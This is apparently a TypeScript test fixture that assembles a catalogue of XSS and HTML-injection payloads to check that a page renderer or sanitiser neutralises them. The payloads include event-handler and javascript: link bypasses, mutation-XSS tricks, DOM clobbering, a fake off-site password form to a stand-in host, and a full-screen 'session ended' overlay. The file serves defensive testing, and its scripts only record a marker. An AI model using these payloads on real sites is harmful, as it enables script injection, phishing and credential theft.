/** What each payload would do: leave its name where the detector looks. Runs in the page, a frame of it, or a new tab. */
const run = (name: string) => `(top||window).__ran.push('${name}')`
const frame = (name: string) => `<script>${run(name)}</script>`

const COVER = 'position:fixed;inset:0;z-index:2147483647;background:red;width:100vw;height:100vh;top:0;left:0'
const ELSEWHERE = 'http://elsewhere.test'

/** Payloads that would run something, by name; written for this project. */
const SCRIPTS: Readonly<Record<string, string>> = {
  script: `<script>${run('script')}</script>`,
  'script by address': `<script src="data:text/javascript,${run('script by address')}"></script>`,
  'image error': `<img src="/api/download/none/none.png" onerror="${run('image error')}">`,
  'image load': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('image load')}" onerror="${run('image load')}">`,
  'svg load': `<svg onload="${run('svg load')}"><circle r="9"/></svg>`,
  'svg script': `<svg><script>${run('svg script')}</script></svg>`,
  'svg animation': `<svg><animate attributeName="x" dur="1s" onbegin="${run('svg animation')}"/></svg>`,
  'svg link': `<svg><a xlink:href="javascript:${run('svg link')}"><text y="20">press</text></a></svg>`,
  'svg foreign object': `<svg><foreignObject><img src="x:" onerror="${run('svg foreign object')}"></foreignObject></svg>`,
  'maths link': `<math><a xlink:href="javascript:${run('maths link')}">press</a></math>`,
  'maths nesting': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run('maths nesting')}&gt;">`,
  'link to script': `<p><a href="javascript:${run('link to script')}">press</a></p>`,
  'link with a tab': `<p><a href="java&#9;script:${run('link with a tab')}">press</a></p>`,
  'link in capitals': `<p><a href=" &#14;JaVaScRiPt:${run('link in capitals')}" target="_self">press</a></p>`,
  'link to data': `<p><a href="data:text/html,${encodeURIComponent(frame('link to data'))}">press</a></p>`,
  iframe: `<iframe src="javascript:${run('iframe')}"></iframe>`,
  'iframe document': `<iframe srcdoc="${frame('iframe document').replaceAll('"', '&quot;')}"></iframe>`,
  'frame inside noscript': `<noscript><p title="</noscript><img src=x: onerror=${run('frame inside noscript')}>"></noscript>`,
  object: `<object data="data:text/html,${encodeURIComponent(frame('object'))}"></object>`,
  embed: `<embed src="data:text/html,${encodeURIComponent(frame('embed'))}">`,
  focus: `<input autofocus onfocus="${run('focus')}">`,
  details: `<details open ontoggle="${run('details')}"><summary>more</summary></details>`,
  media: `<video src="x:" onerror="${run('media')}"></video><audio src onerror="${run('media')}"></audio>`,
  'media source': `<video><source onerror="${run('media source')}"></video>`,
  transition: `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${run('transition')}">moves</p>`,
  template: `<template><script>${run('template')}</script></template><div is="x-y" onclick="${run('template')}">press</div>`,
  'broken tag': `<img """><script>${run('broken tag')}</script>">`,
  'unclosed attribute': `<p title='"><img src=x: onerror=${run('unclosed attribute')}>'>text</p>`,
  'title and textarea': `<textarea><p title="</textarea><img src=x: onerror=${run('title and textarea')}>"></textarea>`,
}

/** Payloads that would reach elsewhere, take the reader away, or stand in front of its controls. */
const MISCHIEF: readonly string[] = [
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/look.css"><link rel="prefetch" href="${ELSEWHERE}/next">`,
  `<form action="${ELSEWHERE}/form"><input name="password" type="password"><button>Sign in</button></form>`,
  `<img src="${ELSEWHERE}/pixel.png" srcset="${ELSEWHERE}/set.png 1x"><img src="//elsewhere.test/bare.png">`,
  `<p style="background: url(${ELSEWHERE}/back.png)">b</p><p style="list-style: url(${ELSEWHERE}/l.png)">l</p>`,
  `<p style="background: u\\72l(${ELSEWHERE}/hidden.png); --x: url(${ELSEWHERE}/var.png)">escaped</p>`,
  `<style>@import url(${ELSEWHERE}/import.css); button { display: none !important }</style>`,
  `<picture><source srcset="${ELSEWHERE}/picture.png"><img alt=""></picture><video poster="${ELSEWHERE}/p.png"></video>`,
  `<div style="${COVER}">Your session has ended. Sign in again.</div>`,
  `<div class="reader fixed inset-0" style="position:sticky;top:-999px;margin:-999px;width:9999px;height:9999px">big</div>`,
  `<div style="position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px;background:blue">far</div>`,
  `<div style="transform:scale(99) translate(-50%,-50%);background:green">scaled</div>`,
  `<button style="all:unset;position:fixed;inset:0">Close</button><dialog open>modal</dialog><p popover id="pop">p</p>`,
  `<p id="root">r</p><p id="__ran">n</p><a id="fetch" href="x:">f</a><img name="getElementById"><p id="body">b</p>`,
  `<form id="parentNode"><input name="attributes"><input name="childNodes"></form><p contenteditable>write</p>`,
]

export const SCRIPT_NAMES = Object.keys(SCRIPTS)
/** One page with every payload; those that may swallow what follows them come last. */
export const HOSTILE_PAGE = ['<h2>A quiet beginning</h2>', ...MISCHIEF, ...Object.values(SCRIPTS)].join('\n')
/** The same payloads one by one. */
export const HOSTILE_PAGES = [...Object.values(SCRIPTS), ...MISCHIEF].map(
  (payload, at) => `<h2>Payload ${at + 1}</h2>${payload}`,
)
